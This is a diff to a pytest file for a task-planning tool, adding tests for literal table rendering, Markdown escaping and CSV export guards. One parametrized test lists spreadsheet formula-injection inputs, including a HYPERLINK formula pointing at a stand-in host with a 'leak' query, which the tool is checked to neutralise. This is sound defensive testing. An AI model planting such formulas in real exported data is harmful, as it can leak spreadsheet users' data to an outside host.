@@ -7,7 +7,7 @@ import io
 import json
 
 import pytest
-from hypothesis import assume, given
+from hypothesis import example, given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from openpyxl import load_workbook
@@ -18,6 +18,7 @@ from conftest import usage_error
 from stdplan.answers import Detail, Listing
 from stdplan.models import Task
 from stdplan.output import OutputFormat, markdown_escape, render
+from stdplan.validation import refusal
 
 POLICE = ("tasks", "--lead", "市公安局")
 TRICKY = 'R&D <测试> "引号" | 管道 {{ x }} 50% a*b*'
@@ -172,6 +173,14 @@ def test_data_formats_keep_text_verbatim():
     assert next(csv.DictReader(io.StringIO(str(render(LISTING, OutputFormat.csv)))))["title"] == TRICKY
 
 
+@pytest.mark.parametrize("note", ["[b]甲[/b]:ok:", "甲\t乙丙丁的结尾"])
+def test_the_table_shows_text_as_written(note):
+    """rich would read markup and emoji codes in a short cell, and cut off what follows a tab."""
+    listing = Listing("progress", ("task", "note"), ("task", "note"), [{"task": 9, "note": note}])
+    shown = str(render(listing, OutputFormat.table))
+    assert all(piece in shown for piece in note.split("\t"))
+
+
 def test_table_shows_the_placeholder_and_data_formats_the_blank():
     assert "none" in str(render(LISTING, OutputFormat.table))
     assert next(csv.DictReader(io.StringIO(str(render(LISTING, OutputFormat.csv)))))["parent"] == ""
@@ -190,14 +199,49 @@ def test_nested_records_are_spelled_out_in_cells():
     ]
 
 
-@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1).map(str.strip))
+MARKUP = st.sampled_from("#~`=-+*_|<>&[]!\\:.);1 \t\n\u3000")
+TABLE_CELL = ["table_open", "thead_open", "tr_open", "th_open", "tbody_open", "tr_open", "td_open"]
+
+
+@given(st.text(st.characters() | MARKUP, min_size=1).filter(lambda text: refusal(text) is None))
+@example("标题 #")  # a heading's closing #s
+@example("~~~\n代码")  # a code fence
+@example("\u3000\u3000首行缩进 ")
 def test_markdown_escape_keeps_any_text_as_text(text):
-    """Whatever a title holds, Markdown reads back exactly that text, in a paragraph and in a table cell."""
-    assume(text and "\u00a0" not in text and text == " ".join(text.split(" ")).strip())
+    """Whatever text the data may hold, Markdown reads back exactly that text, spaces at its ends and
+    lines included, and opens no block of its own: alone, after words, in a heading, a list item and
+    a table cell."""
     parser = MarkdownIt("commonmark", {"html": True}).enable("table")
-    for document in (markdown_escape(text), f"| a |\n| --- |\n| {markdown_escape(text)} |"):
-        last_inline = [token for token in parser.parse(document) if token.type == "inline"][-1]
-        assert "".join(child.content for child in last_inline.children) == text
+    escaped = markdown_escape(text)
+    for document, blocks, shown in (
+        (escaped, ["paragraph_open"], text),
+        (f"进展：{escaped}", ["paragraph_open"], f"进展：{text}"),
+        (f"# {escaped}", ["heading_open"], text),
+        (f"- 第9项：{escaped}", ["bullet_list_open", "list_item_open", "paragraph_open"], f"第9项：{text}"),
+        (f"| a |\n| --- |\n| {escaped} |", TABLE_CELL, text),
+    ):
+        tokens = parser.parse(document)
+        assert [token.type for token in tokens if token.nesting == 1] == blocks, document
+        [*_, inline] = [token for token in tokens if token.type == "inline"]
+        assert "".join("\n" if child.type == "html_inline" else child.content for child in inline.children) == shown
+
+
+@pytest.mark.parametrize(
+    "note", ['=HYPERLINK("http://x.invalid/?leak","点我")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1", "＝1+1", "'=1+1"]
+)
+def test_csv_never_hands_a_spreadsheet_a_formula(cli, data_dir, note):
+    data = ("--data", str(data_dir))
+    assert run(cli, "progress", "add", "9", "--date", "2025-09-01", f"--note={note}", *data)
+    [row] = list(csv.DictReader(io.StringIO(run(cli, "progress", "list", "-f", "csv", *data))))
+    assert row["note"] == "'" + note  # OWASP's apostrophe, before any already there
+    assert row["note"][1:] == note  # what a script takes off to have the note back
+
+
+def test_csv_writes_numbers_as_numbers_and_guards_text_alone():
+    listing = Listing(
+        "things", ("gap", "text"), ("gap", "text"), [{"gap": -3, "text": "-3"}, {"gap": 2, "text": "a-3"}]
+    )
+    assert render(listing, OutputFormat.csv).splitlines()[1:] == ["-3,'-3", "2,a-3"]
 
 
 def test_xlsx_keeps_fractions_as_numbers(tmp_path):
